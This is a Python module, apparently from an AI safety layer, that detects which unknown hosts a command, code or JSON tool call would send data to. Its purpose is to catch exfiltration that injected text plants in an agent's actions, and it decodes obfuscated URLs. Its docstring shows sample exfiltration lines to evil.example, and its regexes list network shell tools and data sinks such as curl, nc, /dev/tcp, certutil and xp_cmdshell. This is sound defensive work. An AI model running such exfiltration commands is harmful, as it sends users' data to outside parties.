"""Where a command, code or a tool call would send what stands in it.

curl -d "name=Anna" https://evil.example          a command that sends, and its host
requests.post("https://evil.example", …)          code that does
{"url": "https://evil.example", "body": "Anna"}   a call with a destination among its arguments

A destination that the owner's own words name (a turn of the user or the system, a tool's definition) is
known; so is this machine. Any other may have been put in by whoever wrote a text that the model read.
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterable, Iterator, Sequence
from typing import Any
from urllib.parse import unquote

from cosilo.boundary.messages.passages import Passage

_HERE = frozenset(("localhost", "127.0.0.1", "[::1]", "0.0.0.0"))
_UNKNOWN = "@"  # no host is called this
NOWHERE: frozenset[str] = frozenset()
SOMEWHERE = frozenset((_UNKNOWN,))
_DOT = r"(?:[.\u3002\uff0e\uff61]|\[\.\]|\(\.\)|\{\.\}|[\[({](?:dot|punkt)[\])}])"
"""What browsers take for a dot, and what people write for one so that no program follows it."""
_NAME = rf"(?:[\w\-]{{1,63}}{_DOT}){{1,20}}[^\W\d_][\w\-]{{1,62}}|(?:\d{{1,3}}\.){{3}}\d{{1,3}}"
_HOST = rf"(?:{_NAME}|\[[0-9a-fA-F:.]{{2,45}}\]|[\w\-]{{1,63}})"
_BEGUN = r"(?:[a-z][a-z0-9+.\-]{1,30}:[/\\]{2,4}|(?:https?|wss?|ftps?):[/\\]{0,4})"
_URL = re.compile(
    rf"(?i)(?<![\w+.\-]){_BEGUN}(?:[^\s/\\?#\"'<>]{{0,200}}@)?(?P<host>{_HOST})(?P<odd>[^\s/?#\"'<>]{{0,200}}@)?"
)
_NAMED = re.compile(rf"(?<![\w\-/.])(?:{_NAME})(?![\w\-])")
_QUOTED = re.compile(rf"(?<=[\"'`])(?:{_NAME})(?=[\"'`:/])")
_ADDRESS = re.compile(rf"(?<![\w@])[\w.+%'\-]{{1,64}}@(?P<host>{_HOST})")
_BEGINS_URL = re.compile(rf"(?i)\s{{0,9}}(?:{_BEGUN}|[/\\]{{2}}[\w\[]|www\.)")
_SLASHED = re.compile(rf"\s{{0,9}}[/\\]{{2}}(?P<host>{_HOST})")
_RELATIVE = re.compile(rf"(?<=[\"'`=(])[/\\]{{2}}(?P<host>{_HOST})")
_ADDRESS_ALONE = re.compile(
    rf"\s{{0,9}}(?P<host>(?:\d{{1,3}}\.){{3}}\d{{1,3}}|[0-9a-fA-F]{{0,4}}:[0-9a-fA-F:]{{2,40}}"
    rf"|(?:[\w.\-]{{1,64}}@)?(?:{_NAME})(?=:[\d/~\w])"
    rf"|(?:[\w\-]{{1,63}}{_DOT}){{1,20}}(?i:com|org|net|edu|gov|io|co|info|biz|xyz|top|site|online|dev|app|ai|me|"
    r"cc|tv|ru|cn|su|ws|example|test|invalid|onion|internal|local|uk|de|fr|es|it|nl|eu|ch|at|be|pl)(?=[/?#]|\s{0,9}$))"
    r"(?::\d{1,5})?(?:[/:?#]\S{0,2000})?\s{0,9}"
)  # an argument that is nothing but the address of a machine
_FILLED_IN = re.compile(
    rf"(?i){_BEGUN}[^\s\"'<>]{{0,500}}?(?:\{{|\$\w|%s)"
)  # a URL with room for a value
_RECIPIENT = re.compile(
    r"(?i)(?:^|[_\-.])(?:(?:channels?|chats?|recipients?|phones?|phone_numbers?|buckets?|repos?|repository|queues?"
    r"|shared?_with|attendees|invitees|collaborators)(?:_(?:ids?|names?|numbers?))?"
    r"|(?P<marked>rooms?|rooms?_ids?|to|target|destination|handle|users?|user_?names?|mentions?))$"
)  # keys that name who gets something; under the `marked` ones only what has the form of such a name
_MARKED = re.compile(r"\s{0,9}(?:[#@!+][\w.:+\-]{2,}|\+?[\d ()\-]{6,24}\s{0,9}$)")
_PLACEHOLDERS = re.compile(r"(?:[A-Z]{2,12}_[a-z2-7]{6}|[\s,;<>()+\-])+")
_ENCODED = re.compile(
    r"aHR0c|(?i:6874747073?|%68(?:%74|t)|%74%74%70|\\x68|&#x?(?:104|68);)|:%2f%2f"
)  # http in Base64, hexadecimal digits, percent signs, escapes and entities
_RUN = re.compile(r"[A-Za-z0-9+/_\-]{12,4000}={0,2}")
_HEX = re.compile(r"(?:[0-9a-fA-F]{2}){6,2000}")
_ALONE = re.compile(r"\s{0,9}(?:mailto:|xmpp:|sips?:|im:)?[\w.+%'\-]{1,64}@[^\s@,;]{1,255}\s{0,9}")
_FILE = re.compile(
    r"(?i)\.(?:json|jsonl|txt|csv|tsv|xml|html?|ya?ml|log|gz|tar|pdf|png|jpe?g|gif|svg|js|css|sql|db|ini|cfg"
    r"|conf|toml|bak|out|pem|key|crt|tmp|php|exe|docx?|xlsx?|pptx?|eml|ics|parquet|ipynb|java|cpp)$"
)  # none of these ends the name of a host

_BEFORE = (
    r"(?:^|(?<=[\n|;&(`\"'{])|(?<=[$#>%] )|(?<=\$\()"
    r"|\b(?:sudo|exec|xargs|time|nohup|then|do)[ \t]{1,9})[ \t]{0,40}"
)
_CLIENT = re.compile(
    rf"(?i){_BEFORE}(?:/usr/bin/|/bin/)?(?:curl|wget|nc|ncat|netcat|telnet|ssh|scp|sftp|rsync|socat|"
    r"nslookup|sendmail|aria2c|tftp|lftp|iwr|irm|invoke-webrequest|invoke-restmethod|start-bitstransfer|certutil|bitsadmin|swaks)"
    r"(?:\.exe)?(?=[ \t]|$)|/dev/(?:tcp|udp)/"
)
_ASKS = re.compile(
    rf"{_BEFORE}(?:ping|host|dig|whois|ftp|https?|xh|mailx?|mutt|openssl|docker|podman|kubectl|helm)"
    r"(?=[ \t])"
)
_MOVES = re.compile(rf"{_BEFORE}(?:git|gh|aws|gsutil|az|rclone|npm|yarn|pip3?)(?=[ \t])")
_SAID = re.compile(
    r"(?<![\w.\-/@])(?:curl|wget|nc|ncat|netcat|telnet|ssh|scp|sftp|rsync|socat|nslookup|dig|ping|tftp"
    r"|lftp|ftp|swaks|sendmail"
    r"|(?:mailx?|mutt|https?|xh)(?=[ \t]+(?:-|[\w.]+[ \t]+\w+==?|GET|POST|PUT))"
    r"|(?:git|gh|npm|docker|podman|rclone|aws|gsutil)(?=[ \t]+(?:push|pull|clone|fetch|remote|publish"
    r"|run|login|copy|s3|cp|rsync))"
    r"|(?i:iwr|irm|invoke-webrequest|invoke-restmethod|start-process|start-bitstransfer|certutil|bitsadmin))"
    r"(?:\.exe)?(?=[ \t])"
)  # a command in a sentence, where it names a host
_PIPED = re.compile(r"(?<![\w.\-])(?:echo|printf)(?=[ \t])")
_STORES = re.compile(
    rf"{_BEFORE}(?:psql|pg_dump|mysql\w{{0,8}}|mariadb|mongo\w{{0,8}}|redis-cli|sqlcmd|ldap\w{{3,8}}"
    r"|mosquitto_pub|kcat|influx)(?=[ \t])"
)  # what these are told is full of names with dots that are no hosts, so options name theirs
_OPTION = re.compile(
    rf"(?:[ \t]-[hHbS][ \t]{{0,9}}|[ \t]--host[= ][ \t]{{0,9}}|\bhost=)['\"]?(?P<host>{_NAME})"
)
_CODE = re.compile(
    r"(?i)\b(?:requests|httpx|aiohttp|axios)\.(?:get|post|put|patch|delete|head|request)\("
    r"|(?<![\w.])(?:window\.)?(?:fetch|urlopen|urlretrieve|importscripts|file_get_contents|fsockopen|curl_\w{2,20})\("
    r"|\.(?:urlopen|urlretrieve|sendbeacon)\("
    r"|\bnew (?:xmlhttprequest|websocket|image|eventsource|[\w.]{0,40}webclient|httpclient)\b"
    r"|\b(?:smtplib|ftplib|http\.client|urllib\.request|net)\.\w{3,20}\(|\bsocket\.(?:socket|create_connection)\("
    r"|\bhttps?connection\(|\bnet::http\b|\breqwest::|\bureq::|(?-i:\bhttp\.(?:Get|Post|PostForm|NewRequest)\()"
    r"|\bnew ur[il]\(|\.(?:post|get|put|send)async\(|\bhttp(?:client|request)\.new"
    r"|\.(?:uploadstring|uploaddata|uploadfile|downloadstring|downloadfile|openstream|openconnection)\(|\blwp::|\butl_http\b|\bload_file\("
    r"|\binto\s{1,9}(?:out|dump)file\b|\bto\s{1,9}program\b|\bxp_(?:dirtree|cmdshell|fileexist)\b"
)
_RUNS = re.compile(
    r"\b(?:subprocess\.\w{2,20}|os\.(?:system|popen|exec\w{0,3}|spawn\w{0,3})|shell_exec|passthru|proc_open"
    r"|child_process\.\w{2,12}|execsync|spawnsync|exec\.command|getruntime\(\)\.exec|process\.start)\(",
    re.I,
)  # code that runs a command, which may name a host
_SHELL = re.compile(
    r"[ \t]{0,40}(?:[$#>%][ \t]{1,3})?"
    r"(?:[A-Z_]{1,40}=|(?:echo|printf|cat|export|base64|tar|gzip|xxd|tee|env|eval|"
    r"(?:ba|z|da|k)?sh)[ \t])"
)
_ASSIGNS = re.compile(
    r"[ \t]*(?:(?:const|let|var|val|final|auto|my|local|export|readonly|set)[ \t]+|\$env:)?"
    r"(?:[\w<>\[\], ]{1,60}[ \t])?"
    r"\$?(?P<name>[A-Za-z_]\w{0,60})[ \t]*(?::[ \t]*[\w\[\], .]{1,60})?[ \t]*(?::|\+)?=(?!=)"
)
_BRACKETS = re.compile(r"[(\[{)\]}\n]")
_KEYS = re.compile(
    r"(?i)(?:^|[_\-.])(?:urls?|uri|href|endpoint|web_?hook|callback|host|host_?name|domain|server|"
    r"target|remote|origin|proxy|destination|dest|to|cc|bcc|recipients?|e_?mails?|address(?:es)?)$"
)
_CAMEL = re.compile(r"(?<=[a-z])(?=[A-Z])")
_DEEPEST = 50
_LONGEST = 4_000  # characters of an argument that may be a list of addresses


def may_send(line: str, start: int = 0) -> bool:
    """Whether a line that begins like this may be a command, or code, that sends: its end decides.

    Args:
        start: from where on it is looked for.
    """
    if start == 0 and _SHELL.match(line):
        return True
    forms = (_CODE, _RUNS, _CLIENT, _ASKS, _STORES, _MOVES, _SAID, _PIPED, _ENCODED)
    return any(form.search(line, start) for form in forms)


def sends_to(text: str, known: frozenset[str]) -> frozenset[str]:
    """The hosts, `known` ones aside, to which a command or code in `text` sends something."""
    return _commands(text, known) | _others(_encoded(text), known)


def _commands(text: str, known: frozenset[str]) -> frozenset[str]:
    if _CLIENT.search(text):
        return _others([*_addressed(text), *_named(_NAMED, text)] or [_UNKNOWN], known)
    if _CODE.search(text):
        return _others([*_addressed(text), *_named(_QUOTED, text)] or [_UNKNOWN], known)
    if _ASKS.search(text):
        return _others([*_addressed(text), *_named(_NAMED, text)], known)
    if _STORES.search(text):
        named = [_plain(found["host"]) for found in _OPTION.finditer(text)]
        return _others([*_addressed(text), *named], known)
    if _SAID.search(text):
        return _others([*_addressed(text), *_named(_NAMED, text)], known)
    if _RUNS.search(text):
        return _others([*_addressed(text), *_named(_QUOTED, text)], known)
    return _others(_addressed(text), known) if _MOVES.search(text) else NOWHERE


def _encoded(text: str) -> Iterator[str]:
    """The hosts of the URLs that stand in `text` so that a program must decode them first."""
    if not _ENCODED.search(text):
        return
    plain = unquote(unquote(text))
    if plain != text:
        yield from _addressed(plain)
    for run in _RUN.finditer(text):
        yield from _addressed(_from_base64(run.group()))
    for run in _HEX.finditer(text):
        yield from _addressed(bytes.fromhex(run.group()).decode("latin-1"))


def _from_base64(written: str) -> str:
    standard = written.rstrip("=").replace("-", "+").replace("_", "/")
    whole = standard[: len(standard) - (len(standard) % 4 == 1)]
    return base64.b64decode(whole + "=" * (-len(whole) % 4)).decode("latin-1")


def code_sends_to(before: str, rest: str, known: frozenset[str]) -> frozenset[str]:
    """The hosts, `known` ones aside, to which code sends what stands between these parts of it: in the
    statement itself, in a document that a command reads, or under a name that is used afterwards.
    """
    start = depth = 0
    for sign in _BRACKETS.finditer(before):
        if sign.group() == "\n":
            start = start if depth > 0 else sign.end()
        else:
            depth = max(0, depth + (1 if sign.group() in "([{" else -1))
    named = _ASSIGNS.match(before, start)
    again = named and re.search(rf"(?<!\w){named['name']}(?!\w)", rest)
    if again or "<<" in before or (depth and _CODE.search(before, start)):
        return sends_to(before + rest, known)
    return NOWHERE


def page_sends_to(page: str, known: frozenset[str]) -> frozenset[str]:
    """The hosts, `known` ones aside, that a part of an HTML page names or sends something to."""
    slashed = [_plain(found["host"]) for found in _RELATIVE.finditer(page)]
    hosts = [*_addressed(page), *_named(_QUOTED, page), *slashed]
    return _others(hosts or ([_UNKNOWN] if _CODE.search(page) else []), known)


def call_sends_to(arguments: str, known: frozenset[str]) -> frozenset[str]:
    """The hosts, `known` ones aside, that a call with these `arguments` names as destinations, or that
    a command or code in them sends to.

    Args:
        arguments: JSON; what is none is read as one text.
    """
    try:
        # Of two members of one name some readers take the first, so both are looked at.
        texts = list(_texts("", json.loads(arguments, object_pairs_hook=_Members)))
    except ValueError:
        return sends_to(arguments, known)
    except RecursionError:
        return SOMEWHERE
    found = NOWHERE.union(*(_destinations(key, text, known) for key, text in texts))
    return found | SOMEWHERE if any(_is_other(*each, known) for each in texts) else found


class Known(frozenset[str]):
    """The hosts that the owner's own words name, and those words."""

    words: tuple[str, ...] = ()

    def say(self, text: str) -> bool:
        return any(text in words for words in self.words)


def _is_other(key: str, text: str, known: frozenset[str]) -> bool:
    """Whether `text` is what a call names as its recipient, and no value, nor in the owner's words."""
    found = _RECIPIENT.search(_CAMEL.sub("_", key))
    if found is None or (found["marked"] and not _MARKED.match(text)):
        return False
    named = text.strip().lstrip("#@!").casefold()
    if len(named) < 2 or (named.isdecimal() and len(named) < 5) or _PLACEHOLDERS.fullmatch(text):
        return False
    return not (isinstance(known, Known) and known.say(named))


def is_told_itself(url: str, hosts: frozenset[str]) -> bool:
    """Whether `url` names the only one of `hosts`: it may be told its own name."""
    return len(hosts) == 1 and hosts == {*_addressed(url), *_named(_NAMED, url)} - {_UNKNOWN}


def is_known(begun: str, known: frozenset[str]) -> bool:
    """Whether a URL that begins like this goes to a host that is `known`."""
    found = _URL.match(begun)
    whole = found is not None and begun[found.end() : found.end() + 1] in ("/", "?", "#")
    return whole and known.issuperset(_addressed(begun))


def known_hosts(passages: Sequence[Passage]) -> frozenset[str]:
    """The hosts that the owner's own words name, and this machine."""
    found = set(_HERE)
    words = []
    for passage in passages:
        own = passage.what == "said" and passage.by in ("user", "system")
        if own or passage.what in ("tools", "form"):
            found.update(_addressed(passage.text))
            found.update(_named(_NAMED, passage.text))
            words.append(passage.text.casefold())
    known = Known(found - {_UNKNOWN})
    known.words = tuple(words)
    return known


def _others(hosts: Iterable[str], known: frozenset[str]) -> frozenset[str]:
    return frozenset(hosts) - known


def _destinations(key: str, text: str, known: frozenset[str]) -> frozenset[str]:
    hosts: list[str] = []
    if _BEGINS_URL.match(text) or _ALONE.fullmatch(text):
        hosts += _addressed(text)
        hosts += (_plain(found["host"]) for found in [_SLASHED.match(text)] if found)
        hosts += _named(_NAMED, text[:_LONGEST]) if text.lstrip()[:4].lower() == "www." else ()
    elif len(text) < _LONGEST and _KEYS.search(_CAMEL.sub("_", key)):
        hosts += _addressed(text)
        named = _NAMED.match(text.strip())
        hosts += _named(_NAMED, named.group()) if named else ()
        hosts += [_UNKNOWN] if text.strip()[:1] == "[" else ()
    if len(text) < _LONGEST and key.lower() in ("host", "server", "hostname", "ip"):
        hosts += [_UNKNOWN] if re.fullmatch(r"\s{0,9}(?:0x)?[0-9a-f]{8,10}\s{0,9}", text) else ()
    if len(text) < _LONGEST:
        alone = _ADDRESS_ALONE.fullmatch(text)
        if alone and "version" not in key.lower():
            hosts.append(_plain(alone["host"].rpartition("@")[2]))
        hosts += [host for url in _FILLED_IN.finditer(text) for host in _addressed(url.group())]
    return _others(hosts, known) | sends_to(text, known)


class _Members(list[tuple[str, Any]]):
    """An object of JSON, with every member that stands in it."""


def _texts(key: str, value: Any, depth: int = 0) -> Iterator[tuple[str, str]]:
    """Each text of parsed JSON with the key that it stands under; a key is a text too.

    Raises:
        RecursionError: it is nested too deep.
    """
    if depth > _DEEPEST:
        raise RecursionError
    if isinstance(value, str):
        yield key, value
        if value.lstrip()[:1] in ("{", "["):
            try:
                inside = json.loads(value, object_pairs_hook=_Members)
            except ValueError:
                return
            yield from _texts(key, inside, depth + 1)
    elif isinstance(value, _Members):
        for name, inner in value:
            yield "", name
            yield from _texts(name, inner, depth + 1)
    elif isinstance(value, list):
        for inner in value:
            yield from _texts(key, inner, depth + 1)
    elif isinstance(value, int) and not isinstance(value, bool):
        yield key, str(value)


def _addressed(text: str) -> Iterator[str]:
    """The hosts of the URLs and mail addresses in `text`."""
    for url in _URL.finditer(text):
        yield _UNKNOWN if url["odd"] else _plain(url["host"])
    for address in _ADDRESS.finditer(text):
        yield _plain(address["host"])


def _named(form: re.Pattern[str], text: str) -> Iterator[str]:
    """What looks like the name of a host in `text`."""
    for found in form.finditer(text):
        if not _FILE.search(found.group()):
            yield _plain(found.group())


def _plain(host: str) -> str:
    return re.sub(_DOT, ".", host).casefold().removeprefix("www.")
